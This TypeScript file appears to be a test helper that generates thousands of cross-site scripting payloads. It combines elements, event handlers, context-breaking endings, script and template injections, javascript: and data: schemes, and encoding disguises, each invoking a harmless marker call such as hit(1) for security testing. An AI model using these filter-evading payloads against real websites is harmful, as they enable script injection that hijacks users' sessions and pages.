/** What each payload would do if it were run: a mark on the page that the test looks for, and a dialog that it hears. */
const CALLS = [
  'hit(1)',
  'alert`1`',
  'top[`hit`](1)',
  '(0,eval)("hit(1)")',
  'window["h"+"it"](1)',
  'setTimeout`hit\\x281\\x29`',
];

const EVENTS = [
  'onload',
  'onerror',
  'onfocus',
  'onclick',
  'onmouseover',
  'onanimationstart',
  'onanimationend',
  'ontoggle',
  'onpageshow',
  'onbegin',
  'onpointerenter',
  'onscroll',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
  'onwheel',
  'oncopy',
  'onsecuritypolicyviolation',
];

/** An element that would run what its attribute says; `E` stands for the event, `C` for what it does. */
const ELEMENTS = [
  '<img src=x E="C">',
  "<svg E='C'>",
  '<svg/E=C>',
  '<body E=C>',
  '<iframe src=javascript:C E=C></iframe>',
  '<video><source E="C"></video>',
  '<audio src=x E=C>',
  '<input autofocus E=C>',
  '<details open E=C>x</details>',
  '<math><mtext><img src=x E=C></mtext></math>',
  '<div style="animation:x 1s" E=C>x</div>',
  '<a href="javascript:C" E=C>x</a>',
  '<form action=javascript:C><button E=C>x</button></form>',
  '<object data="javascript:C" E=C>',
  '<embed src="javascript:C" E=C>',
  '<marquee E=C>x</marquee>',
  '<select autofocus E=C>',
  '<x contenteditable E=C tabindex=1>x</x>',
];

/** What would end whatever it is put into first. */
const ENDINGS = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '-->',
  ']]>',
  '</style>',
  '`}',
  '\\">',
  '&quot;>',
];

const SCRIPTS = [
  '<script>C</script>',
  '<script src="data:text/javascript,C"></script>',
  '<script type=module>C</script>',
  '<scr<script>ipt>C</scr</script>ipt>',
  '<ScRiPt >C</sCrIpT>',
  '<svg><script>C</script></svg>',
  '<svg><animate attributeName=href values=javascript:C /></svg>',
  '<svg><set attributeName=onload to=C /></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>C</script>"></foreignObject></svg>',
  '<meta http-equiv=refresh content="0;url=javascript:C">',
  '<base href="javascript:C//">',
  '<link rel=stylesheet href="data:text/css,*{x:expression(C)}">',
  '<style>@import "javascript:C";*{background:url(javascript:C)}</style>',
  '<template><img src=x onerror=C></template>',
  '<noscript><p title="</noscript><img src=x onerror=C>">',
  '<iframe srcdoc="&lt;script&gt;C&lt;/script&gt;"></iframe>',
  '<math href="javascript:C">x</math>',
  '<isindex action=javascript:C type=image>',
  '{{constructor.constructor("C")()}}',
  '${C}',
  '#{C}',
  '<%= C %>',
  '*{C}',
  '[x](javascript:C)',
  '![x](x"onerror="C)',
  '[x]: javascript:C',
  '**<img src=x onerror=C>**',
  '- <img src=x onerror=C>',
  '@<img src=x onerror=C>',
];

/** Addresses that would run something when followed. */
const SCHEMES = [
  'javascript:C',
  'JaVaScRiPt:C',
  'java\nscript:C',
  'java\tscript:C',
  '\u0001javascript:C',
  'javascript\u00a0:C',
  'javascript&colon;C',
  'javascript%3AC',
  'data:text/html,<script>C</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=',
  'vbscript:C',
  'view-source:javascript:C',
  'https://x"onmouseover="C',
  "https://x'onmouseover='C",
  'https://x/><img src=x onerror=C>',
  'http://x\u202egnp.exe?C',
  'https://javascript:C@x.vn/',
  'https://x.vn/#"><script>C</script>',
  'mailto:a@b.vn?body=<script>C</script>',
  'tel:"><img src=x onerror=C>',
  'blob:https://x/C',
  'filesystem:https://x/C',
];

/** The same signs, written so that something decodes them late. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/</g, '&#x3c;'),
  (text) => text.replace(/</g, '\\u003c').replace(/>/g, '\\x3e'),
  (text) => text.replace(/</g, '%3C').replace(/>/g, '%3E'),
  (text) => text.replace(/</g, '＜').replace(/>/g, '＞'),
];

/** Several thousand texts, all different, that would run something where a text is taken for a page. */
export function xssPayloads(): string[] {
  const found = new Set<string>();
  const add = (text: string, at: number): void => void found.add(text.replaceAll('C', CALLS[at % CALLS.length]!));
  ELEMENTS.forEach((element, e) =>
    EVENTS.forEach((event, v) =>
      ENDINGS.forEach((ending, n) => {
        // Each element with each event and each ending once, in one disguise or another.
        add(
          DISGUISES[(n + v) % 3 === 0 ? (e + n) % DISGUISES.length : 0]!(ending + element.replaceAll('E', event)),
          e + v + n,
        );
      }),
    ),
  );
  SCRIPTS.forEach((script, s) =>
    ENDINGS.forEach((ending, n) => DISGUISES.forEach((hide, d) => add(hide(ending + script), s + n + d))),
  );
  SCHEMES.forEach((scheme, s) => {
    for (let call = 0; call < CALLS.length; call += 1) add(scheme, s + call);
  });
  return [...found];
}
